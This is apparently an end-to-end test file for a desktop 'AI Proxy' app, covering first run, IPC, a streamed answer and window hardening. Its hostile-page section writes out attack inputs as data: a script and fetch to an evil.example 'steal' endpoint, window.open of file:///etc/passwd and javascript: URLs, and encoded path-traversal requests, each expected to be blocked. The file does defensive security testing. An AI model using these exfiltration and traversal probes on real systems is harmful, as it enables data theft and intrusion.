/** The built desktop app from its very first start: window, IPC, an answer, and what its page may not do. */
import type { Browser, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import type { EngineStatus } from '../../proxy/contract.ts'
import { launchBrowser } from '../helpers/browser.ts'
import { chat, startDesktop, type DesktopApp, type DesktopOptions } from './desktop-app.ts'

let browser: Browser
let app: DesktopApp | null = null

beforeAll(async () => {
  browser = await launchBrowser()
})
afterAll(() => browser.close())
afterEach(async () => {
  await app?.dispose()
  app = null
})

async function start(options: Partial<DesktopOptions> = {}): Promise<DesktopApp> {
  app = await startDesktop({ browser, ...options })
  return app
}

it('goes from the first run to the first streamed answer, seen in the window', async () => {
  const desktop = await start({ config: null })
  const page = await desktop.page()
  await desktop.until('the window is shown', () => desktop.windows()[0]?.isVisible)
  const baseUrl = await desktop.baseUrl()
  await page.getByText(baseUrl).filter({ visible: true }).first().waitFor()

  await desktop.clickTray('copy-api-key', 'copy-api-key:default')
  const { text: key } = await desktop.until('the key is copied', () => desktop.reported('clipboard').at(-1))
  expect(key).toMatch(/^ak-[\w-]{43}$/)
  expect(desktop.configText()).toContain(key)

  const answer = await chat(baseUrl, { key })
  expect(answer.status).toBe(200)
  const events = await answer.text()
  expect(events).toContain('chat.completion.chunk')
  expect(events.trimEnd()).toMatch(/data: \[DONE\]$/)

  // Pushed over IPC: nobody asks the page to load anything again.
  await page.getByRole('link', { name: 'Requests' }).click()
  await page.getByText('demo/echo').filter({ visible: true }).first().waitFor()
  // Safe: what getStatus answers, see contract.ts.
  const status = (await desktop.call('getStatus')) as EngineStatus
  expect(status).toMatchObject({ shell: 'desktop', state: 'running', hasAnswered: true, totalRequests: 1 })
  expect(desktop.problems).toEqual([])
})

it('shows every page under its content security policy, without an error and without the network', async () => {
  const desktop = await start({ config: null })
  const page = await desktop.page()
  for (const name of ['Overview', 'Requests', 'Upstreams', 'Projects', 'Models', 'Connect', 'Settings']) {
    await page.getByRole('link', { name, exact: true }).click()
    await page.getByRole('heading', { level: 1, name }).waitFor()
  }
  expect(desktop.problems).toEqual([])
  expect(desktop.blocked).toEqual([])
})

it('gives its window a sandbox, isolation and no Node', async () => {
  const desktop = await start({ config: null })
  const page = await desktop.page()
  expect(desktop.windows()[0]?.webPreferences).toMatchObject({
    sandbox: true,
    contextIsolation: true,
    nodeIntegration: false,
    webSecurity: true,
    webviewTag: false,
  })
  expect(
    await page.evaluate(() => ['require', 'process', 'module', 'ipcRenderer'].filter((name) => name in window)),
  ).toEqual([])
  expect(await page.evaluate('Object.keys(aiProxy).sort()')).toEqual(['call', 'desktopCall', 'subscribe'])
})

describe('a page that is up to no good', () => {
  let desktop: DesktopApp
  let page: Page

  beforeAll(async () => {
    desktop = await startDesktop({ browser, config: null })
    page = await desktop.page()
  })
  afterAll(() => desktop.dispose())

  it.each([
    ['another web page in our window', { url: 'https://evil.example/', isMainFrame: true }],
    ['another host of our scheme', { url: 'app://other/index.html', isMainFrame: true }],
    ['a file', { url: 'file:///index.html', isMainFrame: true }],
    ['a frame within our page', { url: 'app://console/index.html', isMainFrame: false }],
  ])('is refused every call: %s', async (_, frame) => {
    const refused = { ok: true, value: { ok: false, error: { code: 'forbidden' } } }
    expect(await desktop.invokeFrom(frame, 'console:call', 'getStatus', [])).toMatchObject(refused)
    expect(await desktop.invokeFrom(frame, 'desktop:call', 'revealConfig', [])).toMatchObject(refused)
    expect(desktop.reported('show-item')).toEqual([])
  })

  it('is not the console, whose calls are answered', async () => {
    await desktop.desktopCall('revealConfig')
    await desktop.until('the folder is shown', () => desktop.reported('show-item').length > 0)
    expect(desktop.reported('show-item')).toEqual([{ kind: 'show-item', path: desktop.configPath }])
  })

  it('gets no method that the contract does not name', async () => {
    await expect(desktop.call('constructor')).rejects.toThrow('unknown_method')
    await expect(desktop.desktopCall('state')).rejects.toThrow('unknown_method')
    await expect(desktop.desktopCall('openExternal', { href: 'https://example.com' })).rejects.toThrow('bad_arguments')
  })

  it('stays where it is', async () => {
    await page.evaluate(() => {
      location.href = 'https://example.com/'
    })
    await page.evaluate(() => {
      location.href = 'http://127.0.0.1:9/'
    })
    await page.getByText('AI Proxy').first().waitFor()
    expect(await desktop.call('getStatus')).toMatchObject({ state: 'running' })
    expect(desktop.blocked).toEqual([])
    expect(desktop.windows()).toMatchObject([{ url: 'app://console/index.html' }])
  })

  it('opens no window, and only web addresses in the browser', async () => {
    for (const url of [
      'https://example.com/a',
      'file:///etc/passwd',
      'javascript:alert(1)',
      'ms-settings:',
      'http://example.com/',
    ])
      expect(await page.evaluate((address) => window.open(address), url)).toBeNull()
    await desktop.until('the one that is allowed', () => desktop.reported('open-external').length > 0)
    await expect(desktop.desktopCall('openExternal', 'smb://host/share')).rejects.toThrow('link_refused')
    expect(desktop.reported('open-external')).toEqual([{ kind: 'open-external', url: 'https://example.com/a' }])
  })

  it('may write to the clipboard and nothing else', async () => {
    const states = await page.evaluate(async () => {
      const names = ['clipboard-write', 'clipboard-read', 'geolocation', 'notifications', 'microphone']
      // Safe: TypeScript's list of names lacks some that Chromium knows.
      const query = async (name: string) => (await navigator.permissions.query({ name: name as PermissionName })).state
      return Promise.all(names.map(async (name) => [name, await query(name)] as const))
    })
    expect(states.filter(([, state]) => state === 'granted')).toEqual([['clipboard-write', 'granted']])
  })

  it('loads no script and sends nothing anywhere', async () => {
    await page.evaluate(async () => {
      const script = document.createElement('script')
      script.src = 'https://evil.example/x.js'
      document.body.append(script)
      await fetch('https://evil.example/steal').catch(() => null)
      const frame = document.createElement('iframe')
      frame.src = 'https://evil.example/frame'
      document.body.append(frame)
    })
    await expect
      .poll(() => desktop.problems.filter((problem) => problem.includes('Content Security Policy')).length)
      .toBe(3)
    expect(desktop.blocked).toEqual([])
  })

  it('reads nothing beside the console', async () => {
    const statuses = await page.evaluate(() =>
      Promise.all(
        [
          '/index.html',
          '/../../package.json',
          '/%2e%2e/%2e%2e/package.json',
          '/..%2f..%2fpackage.json',
          '/missing.js',
        ].map(async (path) => (await fetch(path)).status),
      ),
    )
    expect(statuses).toEqual([200, 404, 404, 404, 404])
  })
})
